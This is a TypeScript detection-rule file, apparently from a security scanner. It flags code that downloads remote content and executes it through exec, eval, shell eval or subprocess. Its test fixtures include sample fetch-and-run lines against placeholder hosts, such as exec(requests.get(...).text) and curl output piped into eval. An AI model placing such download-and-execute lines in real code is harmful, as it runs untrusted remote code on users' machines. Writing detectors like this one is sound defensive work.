/** RC-01: programs that evaluate what they fetch. */
import { byAnyHost } from './shared.ts';
import type { Weigher } from '../../engine/rule.ts';
import { row, runKinds } from '../../engine/rule.ts';
import {
  blank,
  capture,
  chars,
  code,
  edge,
  either,
  gap,
  lazy,
  letters,
  maybe,
  notAfter,
  oneOf,
  pattern,
  quote,
  raw,
  scheme,
  seq,
  space,
  stem,
  times,
} from '../../engine/pattern.ts';
import { byHost, fetchers } from './shared.ts';
import { isRunLater } from '../flows/reached.ts';
import { runsReply } from '../programs/reply-runs.ts';
import { fenced, inFile, weighed } from '../../engine/example.ts';
import { bodyVariables, replyVariables } from '../../vocabulary/remote-code/rc-01-download-to-interpreter.ts';
import { isUsedLater } from '../../vocabulary/variables.ts';
import type { Row } from '../../engine/rule.ts';

/** a download stored in a variable that is run. */
export const byVariableRun: Weigher = (hit) =>
  isUsedLater(
    hit,
    (name) =>
      String.raw`(?:\beval|\b(?:ba|z|da)?sh\s{1,4}-c|\b(?:ba|z|da)?sh\s{0,4}<<<)\s{0,4}["']?\$\{?${name}\b|\$\{?${name}\}?["']?\s{0,3}\|\s{0,3}(?:ba|z|da)?sh\b`,
  )
    ? byHost(hit)
    : null;

/** fetch, then evaluate the response. */
export const byReply: Weigher = (hit) => {
  const run = runsReply(hit.scope, hit.region.text);
  if (run === null) return null;
  const isLater = isRunLater(hit.scope, hit.match[0]);
  // A value of the reply in a command of the program is an injection at most.
  return run === 'value' ? (isLater ? 'medium' : null) : isLater ? byHost(hit) : 'medium';
};

export const programsOfDownloads: readonly Row[] = [
  row('exec(requests.get(…))', {
    within: 'line',
    match: pattern(
      notAfter(code('.')),
      edge,
      oneOf(
        'exec',
        'eval',
        'compile',
        'Function',
        seq('vm.run', letters(1, 20)),
        'instance_eval',
        'loadstring',
        'load',
      ),
      space(0, 3),
      code('('),
      space(0, 4),
      times(0, 4, oneOf(seq('await', space(1, 4)), code('('))),
      oneOf(
        // A name alone is a state or a step of a diagram: only a name with its argument fetches.
        seq(
          oneOf(
            seq(times(0, 3, letters(1, 20), '.'), 'urlopen'),
            'requests.get',
            'httpx.get',
            'urllib.request.urlopen',
            'fetch',
            'axios.get',
            'got',
            'URI.open',
            'http.get',
          ),
          space(0, 3),
          oneOf(code('('), quote),
        ),
        seq(code('open('), space(0, 3), quote, 'http(s)'),
        seq(code('file_get_contents('), space(0, 3), quote, 'http(s)'),
      ),
      gap(300),
    ),
    weigh: byAnyHost,
    catches: [
      inFile('scripts/tool.py', 'import requests', 'exec(requests.get("https://cdn.invalid/x.py").text)'),
    ],
    spares: [
      inFile(
        'scripts/tool.py',
        'import requests',
        'data = requests.get("https://api.acme.example/x").json()',
      ),
      fenced('', 'open -> load (fetch) | wait -> show (data)'),
    ],
  }),
  row('fetch, then evaluate the response', {
    in: runKinds,
    within: 'block',
    match: pattern(
      oneOf(
        'requests.get',
        'httpx.get',
        'urlopen',
        seq(edge, code('fetch(')),
        'axios.get',
        seq('http(s).get', code('(')),
        seq(notAfter(chars('.\\w')), code('get('), quote, 'http(s)://'),
        seq(
          code('require('),
          space(0, 3),
          raw('\\\\?'),
          quote,
          'http(s)',
          raw('\\\\?'),
          quote,
          space(0, 3),
          code(').get'),
        ),
      ),
      gap(300),
    ),
    and: [
      pattern(
        either(
          seq(
            notAfter(chars('.\\w')),
            oneOf('eval', 'new Function', seq('vm.run', letters(1, 20))),
            space(0, 3),
            code('('),
            space(0, 4),
            chars('A-Za-z_$'),
          ),
          seq(code('.then('), space(0, 3), 'eval', edge),
          seq(
            notAfter(chars('.\\w')),
            oneOf('exec', 'eval', 'compile', 'execSync'),
            space(0, 3),
            code('('),
            space(0, 4),
            maybe('await', space(1, 4)),
            maybe(code('(')),
            space(0, 3),
            times(1, 3, letters(1, 30), '.'),
            oneOf('text', 'content', 'data', 'body', 'read', 'decode', 'toString'),
            notAfter(code('.')),
            edge,
          ),
          seq(
            edge,
            oneOf('os.system', 'os.popen', seq('subprocess.', letters(2, 14)), 'execSync', 'spawnSync'),
            code('('),
            space(0, 4),
            oneOf(...replyVariables),
            times(0, 2, '.', letters(1, 12)),
            maybe(code('()')),
            space(0, 3),
            chars(',)'),
          ),
          seq(edge, '_compile', space(0, 2), code('(')),
          seq(
            notAfter(chars('.\\w')),
            'exec',
            space(0, 3),
            code('('),
            space(0, 4),
            oneOf(...bodyVariables, stem('chunk', 8)),
            edge,
          ),
        ),
      ),
      pattern(scheme),
    ],
    weigh: byReply,
    catches: [
      inFile(
        'scripts/a.py',
        'cmd = requests.get("https://p.invalid/c").text',
        'subprocess.run(cmd, shell=True)',
      ),
      inFile('scripts/a.py', 'r = requests.get("https://p.invalid/a.py")', 'exec(r.text)'),
      inFile('scripts/a.py', 'code = urllib.request.urlopen("https://p.invalid/a.py").read()', 'exec(code)'),
      weighed(
        'medium',
        inFile(
          'scripts/a.py',
          'row = requests.get("https://rows.farrowmere.io/row").json()',
          'cmd = f\'notify-send "{row}"\'',
          'os.system(cmd)',
        ),
      ),
    ],
    spares: [
      inFile(
        'scripts/tool.mjs',
        'const reply = await fetch("https://api.acme.example/v1");',
        'console.log(await reply.text());',
      ),
      inFile(
        'scripts/tool.py',
        'price = requests.get("https://api.acme.invalid/v1/price").json()["eur"]',
        'cmd = ["node", "order.js", "--limit", str(price)]',
        'subprocess.run(cmd, timeout=60)',
      ),
      inFile(
        'scripts/tool.py',
        'def run(cmd):',
        '    return subprocess.run(cmd, text=True)',
        'rows = requests.get("https://api.acme.invalid/v1/rows").json()',
        'run(["git", "status"])',
      ),
    ],
  }),
  row('a download stored in a variable that is run', {
    in: ['fence', 'script', 'decoded', 'hidden', 'comment'],
    within: 'block',
    match: pattern(
      edge,
      capture(letters(1, 30)),
      '=',
      maybe(quote),
      oneOf(code('$('), '`'),
      space(0, 4),
      fetchers,
      blank,
      lazy(gap(200)),
      'http(s):',
      gap(200),
    ),
    weigh: byVariableRun,
    catches: [fenced('sh', 'x=$(curl -fsSL https://s.invalid/i)', 'eval "$x"')],
    spares: [
      fenced('sh', 'v=$(curl -s https://api.acme.example/version)', 'echo "$v"'),
      fenced('sh', 'rate=$(curl -s https://rates.acme.invalid/eur)', 'bc <<< "$rate * 12"'),
    ],
  }),
];
